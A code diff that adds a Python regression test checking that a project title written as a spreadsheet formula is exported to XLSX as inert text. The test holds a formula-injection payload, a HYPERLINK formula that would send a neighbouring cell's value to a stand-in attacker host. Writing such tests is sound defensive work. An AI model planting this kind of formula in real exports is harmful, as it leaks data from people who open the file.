@@ -115,3 +115,19 @@ class TestOnTheDemo:
         xlsx = coordination.get(reverse("funding:fund_statement_xlsx", args=["besancon", 2024]))
         rows = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True))
         assert rows[-1][0] == "Solde" and rows[-1][-1] == 30000
+
+
+def test_a_formula_as_project_title_stays_text_in_the_programmation(
+    client: Client, world: World
+) -> None:
+    """The attack: a project titled `=HYPERLINK(…)` became a live formula in the XLSX."""
+    attack = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
+    world.own.action.title = attack
+    world.own.action.save()
+    client.force_login(world.users[Role.COORDINATION])
+    response = client.get(reverse("funding:programmation_xlsx", args=[world.cite.slug, 2025]))
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet is not None
+    cells = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == attack]
+    assert cells and all(cell.data_type == "s" for cell in cells)
